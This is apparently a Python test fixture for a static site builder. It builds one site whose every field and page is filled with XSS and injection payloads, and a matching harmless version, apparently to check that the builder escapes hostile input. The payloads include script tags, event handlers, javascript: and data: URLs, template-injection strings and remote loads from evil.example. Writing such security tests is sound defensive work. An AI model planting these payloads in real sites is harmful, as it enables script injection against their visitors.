"""A site whose every value and text attacks its readers, and the same site with harmless ones."""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from io import StringIO
from pathlib import Path

from tests.site_building import SITE_URL, build_here, term, write_site
from tests.site_reading import BuiltSite

RUN = "window.pwned=1"
VALUES = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><svg/onload={RUN}>',
    f"'><iframe srcdoc='<script>parent.{RUN}</script>'>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"</script><script>{RUN}</script>",
    f"</title></textarea></style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    "<![CDATA[ x ]]> <![ <!DOCTYPE <?php",
    f"[x](javascript:{RUN}) ![x](javascript:{RUN})",
    f"<javascript:{RUN}> <a href=javascript:{RUN}>x</a>",
    f"*x*{{: onclick={RUN} style=position:fixed }}",
    f"{{: onclick={RUN} #__search }}",
    "{{ config }} {% for x in page %}{{ x }}{% endfor %} %(num)s {n}",
    f"[[grant|<img src=x onerror={RUN}>]] [[!<b onclick={RUN}>]] [[<script>{RUN}</script>]]",
    f"`<script>{RUN}</script>` ``` ~~~",
    "\ue000index.md:0\ue001 \ue000 \ue001",
    "\x02klzzwxh:0000\x03 \u202e \u2028 \u2029 \x00",
    f"# x\n\n<script>{RUN}</script>\n\n    code",
    f'=HYPERLINK("javascript:{RUN}")',
)
"""What may stand in a value of the front matter."""

BODIES = (
    f"<script>{RUN}</script>\n\n<SCRIPT/x>{RUN}</SCRIPT>",
    f"<script src=//evil.example/x.js></script><script>{RUN}",
    f"<img src=x onerror={RUN}> and <img/src=x/onerror={RUN}> and <b onclick={RUN}>x</b>",
    f"<svg onload={RUN}><script>{RUN}</script><a xlink:href=javascript:{RUN}>x</a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img "
    f"title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<iframe src=javascript:{RUN}></iframe>\n\n<iframe "
    f"srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<form action=//evil.example><input autofocus "
    f"onfocus={RUN}><button formaction=javascript:{RUN}>",
    "<style>@import '//evil.example';* {background:url(//evil.example/x)}</style>\n\n"
    "<p style='background:url(//evil.example/y)'>x</p>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>\n\n<base href=//evil.example/>\n\n"
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}><applet code=x>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}></audio>",
    f"<details open ontoggle={RUN}><summary>x</summary></details><marquee "
    f"onstart={RUN}>x</marquee>",
    f"<body onload={RUN}><frameset onload={RUN}><html onclick={RUN}><head>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><img src=x onerror={RUN}></template><textarea><script>{RUN}</script></textarea>",
    f'<p id="x<img src=x onerror={RUN}>" class=\'"><script>{RUN}</script>\'>x</p>',
    f"<a href=' javascript:{RUN}'>x</a> <a "
    f"href='java\tscript:{RUN}'>x</a> <a href='&#1;javascript:{RUN}'>x</a>",
    f"[x](javascript:{RUN}) [x](JaVaScRiPt:{RUN}) "
    f"[x](java&#x73;cript:{RUN}) [x](<java\tscript:{RUN}>)",
    f"[x]( javascript:{RUN}) [x](&#106;avascript&colon;{RUN}) "
    f"[x](javascript&#58;{RUN}) [x](\\javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>) "
    f"[x](vbscript:{RUN}) <javascript:{RUN}> <data:text/html,x>",
    f"[x][r] [y][s] ![x][r]\n\n[r]: javascript:{RUN}\n[s]: <javascript:{RUN}>",
    f"![x](javascript:{RUN}) ![x](data:image/svg+xml,<svg/onload={RUN}>) "
    f"![x](//evil.example/x.png)",
    "![x](https://evil.example/x.png) <img "
    "src=https://evil.example/y.png> <img srcset=//evil.example/z>",
    f'![" onerror="{RUN}](x.png) ![x](x.png \'" onload="{RUN}\') [x](https://example.com/"onclick="{RUN})',
    f'<https://example.com/"onmouseover="{RUN}> [x](https://example.com \'y" onclick="{RUN}\')',
    f"## x {{: onclick={RUN} style=position:fixed "
    f"#__search }}\n\nx\n{{: onmouseover={RUN} .x id=__md }}",
    f"[x](https://example.com){{: onclick={RUN} "
    f"target=_blank style=x }} ![x](x.png){{: onerror={RUN} }}",
    "<a id=lpsa-az></a><a id=definition "
    "name=documentElement></a><img name=getElementById id=__main>",
    f"## <img src=x onerror={RUN}> one\n\n## &lt;img "
    f"src=x onerror={RUN}&gt; two\n\n### `<script>` three",
    f"<script>{RUN}</script>\n---\n\n<b onclick={RUN}>x</b>\n===",
    "Text <![CDATA[ x ]]> and <![ and `<![` and\n\n    <![\n\n```\n<![ CDATA\n```\n\n<![if x]>",
    f'!!! note "<img src=x onerror={RUN}>"\n\n    x\n\n??? note" onclick="{RUN}\n\n    x',
    f'``` {{.python onclick="{RUN}" title="<img src=x onerror={RUN}>"}}\nx\n```',
    f'``` html" onclick="{RUN}\n<script>{RUN}</script>\n```\n\n```mermaid\nx<script>\n```',
    f"| <img src=x onerror={RUN}> | `<script>` |\n| --- | --- |\n| <script>{RUN}</script> | x |",
    f"x[^1] y[^<script>]\n\n[^1]: <img src=x onerror={RUN}>\n[^<script>]: x",
    f"<img src=x onerror={RUN}>\n:   <script>{RUN}</script>",
    f'[[grant|<img src=x onerror={RUN}>]] [[grant\\|" onclick="{RUN}]] [[!<script>{RUN}</script>]]',
    f'[[grant|[x](javascript:{RUN})]] [["><script>{RUN}</script>]] '
    f"[@book, <img src=x onerror={RUN}>]",
    "\ue000index.md:0\ue001\n\n<p>\ue000glossary/value-1.md:0\ue001</p>\n\n\ue000\n\n\ue001",
    "\x02klzzwxh:0\x03 \x02wzxhzdk:0\x03 \u202eevil\u202c \x00 \u2066x\u2069",
    "{{ config.site_name }} {% include 'main.html' %} {# x #} --8<-- \"mkdocs.yml\"",
    f"-->\n<script>{RUN}</script>\n<!--\n\n<!-- x --!><script>{RUN}</script> -->",
    f"<x-y onclick={RUN}>x</x-y><a href=https://example.com "
    f"target=_blank rel=opener ping=//evil.example>x</a>",
    f"<div\nonclick={RUN}\n>x</div>\n\n<div><p onclick={RUN}>\n\n<b>x\n\n</p></div></b>",
)
"""What may stand in a text."""


CALM = "## One\n\n| Two | Three |\n| --- | --- |\n| four | five |\n"
INERT = frozenset({15, 30, 31, 32, 37, 41})
"""The texts that can do no harm as they stand: code, attributes' values, allowed addresses."""


def attacks() -> dict[str, str]:
    """Return the files of the hostile site."""
    return {**dict(_values(VALUES)), **dict(_bodies(BODIES))}


def calm() -> dict[str, str]:
    """Return the files of the harmless site: the same pages, with nothing in them."""
    values = tuple(f"value {number}" for number in range(len(VALUES)))
    return {**dict(_values(values)), **dict(_bodies((CALM,) * len(BODIES)))}


def build(folder: Path, files: dict[str, str]) -> tuple[BuiltSite, str]:
    """Build one of the sites as it is served, in spite of all faults; return what is said, too."""
    said = StringIO()
    handler = logging.StreamHandler(said)
    logger = logging.getLogger("mkdocs")
    logger.addHandler(handler)
    try:
        config_file = write_site(folder, {"glossary/grant.md": term("grant"), **files})
        site = BuiltSite(build_here(config_file, folder / "site", command="serve"), SITE_URL)
    finally:
        logger.removeHandler(handler)
    return site, said.getvalue()


def _bodies(texts: tuple[str, ...]) -> Iterator[tuple[str, str]]:
    for number, text in enumerate(texts):
        head = f"title: Body {number}\nsources: [{{ref: book-0}}]"
        yield f"content/body-{number}.md", f"---\n{head}\n---\n{text}\n"


def _values(values: tuple[str, ...]) -> Iterator[tuple[str, str]]:
    yield "content/references.yml", _references(values)
    marks = " ".join(f"[[value-{number}]]" for number in range(len(values)))
    yield "content/all-values.md", f"---\ntitle: All values\n---\n{marks}\n"
    for number, value in enumerate(values):
        shown = json.dumps(value)
        yield f"glossary/value-{number}.md", _term(number, shown)
        yield f"primers/value-{number}.md", _primer(number, shown)
        yield f"content/projects/value-{number}.md", _project(shown)
        yield f"content/working-groups/value-{number}.md", _group(shown)
        yield (
            f"content/value-{number}.md",
            f"---\ntitle: {shown}\nsummary: {shown}\n---\n[[value-{number}]]\n",
        )
        yield f"frameworks/value-{number}/framework.yml", _framework(shown)
        yield f"frameworks/value-{number}/assessments/place-2025.yml", _assessment(shown)


def _references(values: tuple[str, ...]) -> str:
    return "references:\n" + "".join(
        f"  - {{id: book-{number}, type: book, title: {v}, author: [{{literal: {v}}}],\n"
        f"     publisher: {v}, container-title: {v}, DOI: {v}, note: {v}, volume: {v}, page: {v},\n"
        f"     URL: \"https://example.com/{number}?'onclick='{RUN}\"}}\n"
        for number, v in enumerate(map(json.dumps, values))
    )


def _term(number: int, v: str) -> str:
    return f"""\
---
term: {v}
abbreviation: {v}
aliases: [{v}]
avoid: [{v}]
variants: [{v}]
definition: {v}
scope_note: {v}
qualifier: {v}
house_rule: {v}
domain: fiscal
status: deprecated
replaced_by: value-0
reason: {v}
confidence: knowledge
contrast: [value-1]
related: [value-2]
redirect_from: [old-{number}]
sources: [{{ref: book-{number}, at: {v}}}]
other_meanings: [{{ref: book-{number}, gist: {v}, differs: {v}, at: {v}}}]
history: [{{revision: 1, definition: {v}, date: 2026-01-01, note: {v}}}]
exact_match: ["https://example.com/'onclick='{RUN}"]
translations:
  fr: {{term: {v}, abbreviation: {v}, aliases: [{v}], definition: {v}, revision: 1}}
---
"""


def _primer(number: int, v: str) -> str:
    return f"""\
---
title: {v}
summary: {v}
order: {number}
level: introductory
domains: [fiscal]
authors: [{v}]
status: deprecated
replaced_by: value-0
reason: {v}
prerequisites: [value-1]
sources: [{{ref: book-{number}, at: {v}}}]
---
Text.
"""


def _project(v: str) -> str:
    return f"""\
---
title: {v}
summary: {v}
status: ongoing
partners: [{v}]
funders: [{v}]
regions: [africa]
themes: [fiscal]
countries: [KE]
start: {v}
end: {v}
url: "https://example.com/'onclick='{RUN}"
outputs: [{v}, {{title: {v}, url: "https://example.com/'onclick='{RUN}"}}]
working_groups: [value-0]
frameworks: [value-0]
---
Text.
"""


def _group(v: str) -> str:
    return f"---\ntitle: {v}\nsummary: {v}\nkind: regional\nregion: africa\n---\nText.\n"


def _framework(v: str) -> str:
    return f"""\
title: {v}
abbreviation: {v}
version: {v}
publisher: {v}
licence: {v}
summary: {v}
comparable: false
comparable_reason: {v}
confidence: knowledge
url: "https://example.com/'onclick='{RUN}"
scales:
  {v}:
    kind: ordered
    values: [{{code: {v}, label: {v}, points: 1, description: {v}}}]
  numbers: {{kind: number, min: 0, max: 1, unit: {v}}}
not_rated: [{{code: x, label: {v}, effect: exclude}}]
structure:
  levels: [{v}, {v}]
  items:
    - code: {v}
      title: {v}
      question: {v}
      guidance: {v}
      note: {v}
      aggregation: mean
      items:
        - code: inner
          title: {v}
          question: {v}
          guidance: {v}
          note: {v}
          scale: {v}
          criteria: {{{v}: {v}}}
          terms: [value-0]
"""


def _assessment(v: str) -> str:
    return f"""\
place: {v}
iso3166: KE
level: {v}
period: {v}
assessors: {v}
status: illustrative
summary: {v}
scores:
  inner: {{score: {v}, evidence: {v}}}
"""
